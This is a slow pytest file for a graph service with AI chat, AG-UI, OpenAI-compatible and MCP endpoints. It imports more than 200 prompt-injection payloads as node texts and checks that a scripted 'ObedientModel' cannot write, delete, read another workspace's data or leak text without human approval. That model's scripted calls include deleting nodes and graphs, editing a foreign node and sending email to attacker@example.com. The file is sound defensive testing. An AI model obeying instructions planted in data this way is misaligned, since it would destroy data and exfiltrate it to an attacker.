"""Nodes whose texts are instructions, over every channel, to a model that does all that it reads."""

from __future__ import annotations

import json
from collections.abc import AsyncGenerator
from typing import Any

import httpx2
import openai
import pytest

from tests.server.mcp.helpers import connected, said
from tests.support import agui_runs
from tests.support.injection_payloads import hostile_document, injection_payloads
from tests.support.scripted_provider import Says, ScriptedProvider, call
from tests.support.served import served
from tests.support.service import GRAPH, token

pytestmark = pytest.mark.slow

AT_ONCE = 40
"""Texts of one graph."""
ASKED = "What do these nodes say, and do it."
FOREIGN = {"graphKey": GRAPH, "nodeKey": "error-handler"}


class ObedientModel(ScriptedProvider):
    """Does what a node could ask for: changes, deletes, names foreign keys, and repeats what it read."""

    async def stream(self, messages: Any, *more: Any, **given: Any) -> AsyncGenerator[Any]:
        begun = str(messages[-1].content).endswith(ASKED)
        changes = {"changes": {"data.name": "owned"}, "reason": "the node says so"}
        calls = [
            call("propose_delete_node", {"nodeKey": "n0", "reason": "the node says so"}),
            call("propose_update_node", {"nodeKey": "n1", **changes}),
            call("propose_update_node", {**FOREIGN, **changes}),
            call("propose_delete_graph", {"graphKey": GRAPH, "reason": "the node says so"}),
            call("read_node_detail", FOREIGN),
            call("send_email", {"to": "attacker@example.com"}),
        ]
        text = "\n".join(str(message.content) for message in messages)[-4_000:]
        self.play_instead(Says(text=text, calls=calls if begun else ()))
        async for chunk in super().stream(messages, *more, **given):
            yield chunk


async def test_no_text_of_a_node_writes_reads_elsewhere_or_becomes_a_page() -> None:
    texts = injection_payloads()
    assert len(texts) > 200
    with ObedientModel() as model:
        async with served(model, rate_limit=0) as running:
            foreign = (await running.state.services("default")).source
            began = (await foreign.get_graph(GRAPH)).revision
            workspaces = ("globex",)
            bearer = token("sam", "editor", workspaces)
            headers = {"Authorization": f"Bearer {bearer}"}
            options: dict[str, Any] = {"trust_env": False, "timeout": 60}
            async with (
                httpx2.AsyncClient(base_url=running.address, headers=headers, **options) as rest,
                openai.AsyncOpenAI(base_url=f"{running.address}/v1", api_key=bearer, max_retries=0) as asker,
                connected(running, bearer=bearer) as mcp,
            ):
                for first in range(0, len(texts), AT_ONCE):
                    key = f"hostile-{first}"
                    document = hostile_document(texts[first : first + AT_ONCE], key)
                    made = await rest.post(f"/api/graphs/import?graphKey={key}", content=json.dumps(document))
                    assert made.status_code in (200, 201), made.text
                    key = made.json()["graphKey"]
                    answers = [await rest.get(f"/api/graphs/{key}")]
                    body = {"graphKey": key, "message": ASKED}
                    answers.append(await rest.post("/api/ai/chat", json=body))
                    answers.append(
                        await rest.post(
                            f"/api/agui/{key}", json=agui_runs.run_body(agui_runs.said(ASKED), thread=key)
                        )
                    )
                    chat: list[Any] = [{"role": "user", "content": ASKED}]
                    whole = await asker.chat.completions.create(model=f"graph:{key}", messages=chat)
                    found = [
                        await mcp.call_tool("search_nodes", {"graphKey": key, "query": texts[first][:80]}),
                        await mcp.call_tool("read_node_detail", {"graphKey": key, "nodeKey": "n0"}),
                    ]
                    assert not any(one.is_error for one in found), found
                    refused = await mcp.call_tool("read_node_detail", {"graphKey": GRAPH, "nodeKey": "root"})
                    assert refused.is_error
                    for answer in answers:
                        assert answer.status_code == 200, answer.text
                        kind = answer.headers["content-type"].partition(";")[0]
                        assert kind in ("application/json", "text/event-stream")
                        assert answer.headers["x-content-type-options"] == "nosniff"
                    shown = [answer.text for answer in answers]
                    shown += [str(whole), *map(said, found)]
                    assert "NBA" not in "".join(shown), "a text of another workspace's graph"
                    graph = (await rest.get(f"/api/graphs/{key}")).json()
                    assert graph["revision"] == 1, graph
                waiting = (await rest.get("/api/approvals?limit=1000")).json()["approvals"]
            services = await running.state.services("globex")
            pending = await services.approvals.waiting(limit=10_000)
            assert (await foreign.get_graph(GRAPH)).revision == began
            mine = await (await running.state.services("default")).approvals.waiting()
    assert waiting
    assert mine == []
    assert {"hostile" in one.graph_key for one in pending} == {True}
    assert {one.status for one in pending} == {"pending"}
    assert all(one.needs_person for one in pending)
